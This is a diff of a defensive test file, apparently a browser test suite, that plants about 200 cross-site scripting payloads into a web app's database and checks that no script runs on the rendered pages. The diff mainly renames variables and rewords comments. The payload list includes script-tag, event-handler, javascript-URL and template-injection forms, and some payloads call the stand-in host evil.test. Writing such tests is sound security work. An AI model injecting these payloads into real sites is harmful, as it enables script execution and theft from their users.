@@ -10,42 +10,42 @@ import { openOwnServer, type OwnServer } from './own-server.ts'
 import { quiet } from './quiet.ts'
 import { openVisitor, type Visitor } from './visitor.ts'
 
-/** The seeded customer who is repaying: orders, invoices, payments, notices and requests are hers. */
+/** The demo customer who repays: she has orders, invoices, payments, notices and requests. */
 const repaying = '09121000003'
 
-const deeds = ['window.__ran=1', 'alert(1)', 'fetch("//evil.test")', 'document.title="x"', 'location="//evil.test"']
+const scripts = ['window.__ran=1', 'alert(1)', 'fetch("//evil.test")', 'document.title="x"', 'location="//evil.test"']
 const forms = [
-  (deed: string) => `<script>${deed}</script>`,
-  (deed: string) => `"><script>${deed}</script>`,
-  (deed: string) => `</title></textarea></style><script>${deed}</script>`,
-  (deed: string) => `<img src=x onerror='${deed}'>`,
-  (deed: string) => `<svg onload='${deed}'>`,
-  (deed: string) => `<svg><animate onbegin='${deed}' attributeName=x dur=1s>`,
-  (deed: string) => `<iframe srcdoc="<script>${deed}</script>">`,
-  (deed: string) => `<iframe src='javascript:${deed}'>`,
-  (deed: string) => `<a href='javascript:${deed}' autofocus>`,
-  (deed: string) => `<details open ontoggle='${deed}'>`,
-  (deed: string) => `<input autofocus onfocus='${deed}'>`,
-  (deed: string) => `<body onload='${deed}'>`,
-  (deed: string) => `<object data='javascript:${deed}'>`,
-  (deed: string) => `<base href='//evil.test/'>${deed}`,
-  (deed: string) => `<meta http-equiv=refresh content='0;url=javascript:${deed}'>`,
-  (deed: string) => `<style>@import '//evil.test/${encodeURIComponent(deed)}'</style>`,
-  (deed: string) => `{{constructor.constructor('${deed}')()}}`,
-  (deed: string) => `\${${deed}}`,
-  (deed: string) => `&lt;script&gt;${deed}&lt;/script&gt;`,
-  (deed: string) => `\u202e<scr\u0130pt>${deed}</scr\u0130pt>`,
+  (script: string) => `<script>${script}</script>`,
+  (script: string) => `"><script>${script}</script>`,
+  (script: string) => `</title></textarea></style><script>${script}</script>`,
+  (script: string) => `<img src=x onerror='${script}'>`,
+  (script: string) => `<svg onload='${script}'>`,
+  (script: string) => `<svg><animate onbegin='${script}' attributeName=x dur=1s>`,
+  (script: string) => `<iframe srcdoc="<script>${script}</script>">`,
+  (script: string) => `<iframe src='javascript:${script}'>`,
+  (script: string) => `<a href='javascript:${script}' autofocus>`,
+  (script: string) => `<details open ontoggle='${script}'>`,
+  (script: string) => `<input autofocus onfocus='${script}'>`,
+  (script: string) => `<body onload='${script}'>`,
+  (script: string) => `<object data='javascript:${script}'>`,
+  (script: string) => `<base href='//evil.test/'>${script}`,
+  (script: string) => `<meta http-equiv=refresh content='0;url=javascript:${script}'>`,
+  (script: string) => `<style>@import '//evil.test/${encodeURIComponent(script)}'</style>`,
+  (script: string) => `{{constructor.constructor('${script}')()}}`,
+  (script: string) => `\${${script}}`,
+  (script: string) => `&lt;script&gt;${script}&lt;/script&gt;`,
+  (script: string) => `\u202e<scr\u0130pt>${script}</scr\u0130pt>`,
 ]
-/** 20 forms by 5 deeds, in small and in capital tags. */
+/** 20 forms by 5 scripts, with tags in lower and in upper case. */
 const payloads = forms.flatMap((form) =>
-  deeds.flatMap((deed) => [form(deed), form(deed).replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())]),
+  scripts.flatMap((script) => [form(script), form(script).replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())]),
 )
 
-/** What is no text for anybody to read, but a name by which the system finds or checks something. */
+/** Columns that are not text to read, but names by which the system finds or checks something. */
 const ofTheApp =
   /(^|_)(id|key|hash|hmac|sha256|token|status|type|slug|code|mobile|number|kind|cause|event|account|subject|reference|authority|purpose|name_en|role|state|phase|party|channel|address|locale|etag|path|policy|listener|etc)$/
 
-// Two starts of a system and two dozen pages: by `npm run prove`.
+// Two starts of a system and two dozen pages: only with `npm run prove`.
 describe.skipIf(!process.env['PROVE'])('script payloads', () => {
   let app: OwnServer
   let visitor: Visitor
@@ -75,11 +75,11 @@ describe.skipIf(!process.env['PROVE'])('script payloads', () => {
     expect(payloads.length).toBe(200)
     expect(planted.cells).toBeGreaterThan(payloads.length)
     const dialogs: string[] = []
-    const seen: string[] = []
+    const texts: string[] = []
     const visit = async ({ page }: Visitor, at: string): Promise<void> => {
       await page.goto(at)
       await quiet(page)
-      seen.push(await page.locator('body').innerText())
+      texts.push(await page.locator('body').innerText())
       expect([at, await trespass(page)]).toEqual([at, []])
     }
     for (const { page } of [visitor, customer])
@@ -105,18 +105,18 @@ describe.skipIf(!process.env['PROVE'])('script payloads', () => {
     ] as const)
       await visit(customer, await linkOn(customer.page, list, link))
     console.log(
-      `${planted.cells} cells in ${planted.columns} columns; ${seen.filter((text) => /script|onerror|alert/i.test(text)).length} of ${seen.length} pages showed a payload`,
+      `${planted.cells} cells in ${planted.columns} columns; ${texts.filter((text) => /script|onerror|alert/i.test(text)).length} of ${texts.length} pages showed a payload`,
     )
     expect(dialogs).toEqual([])
-    // A picture whose address is a payload is missing, as it should be.
+    // A picture whose address is a payload is missing, as expected.
     const complaints = [...visitor.complaints, ...customer.complaints].filter((line) => !isMissingPicture(line))
     expect(complaints).toEqual([])
-    // Where nothing was shown nothing was proven.
-    expect(seen.filter((text) => /script|onerror|alert/i.test(text)).length).toBeGreaterThan(5)
+    // If no payload was shown, the test proved nothing.
+    expect(texts.filter((text) => /script|onerror|alert/i.test(text)).length).toBeGreaterThan(5)
   }, 600_000)
 })
 
-/** Writes payloads into every text column that people read, a different one into each cell; what the database refuses stays. */
+/** Writes payloads into every text column that people read, a different one into each cell; cells whose change the database refuses stay as they are. */
 async function plant(db: Db): Promise<{ columns: number; cells: number }> {
   const columns = await rowsOf<{ table: string; column: string }>(
     db,
@@ -140,7 +140,7 @@ async function plant(db: Db): Promise<{ columns: number; cells: number }> {
   return done
 }
 
-/** The browser's line about an address that is a payload and leads to nothing; any other 404 is a complaint. */
+/** The browser's log line about a missing picture whose address is a payload; any other 404 is a complaint. */
 const isMissingPicture = (line: string): boolean =>
   line.includes('status of 404') && payloads.some((payload) => readable(line).endsWith(readable(payload)))
 
@@ -152,7 +152,7 @@ const readable = (text: string): string => {
   }
 }
 
-/** What a payload has done to the page, or may still do when it is clicked. */
+/** What a payload has done to the page, or would do when clicked. */
 const trespass = (page: Page): Promise<readonly string[]> =>
   page.evaluate(() => [
     ...('__ran' in window ? ['a script ran'] : []),
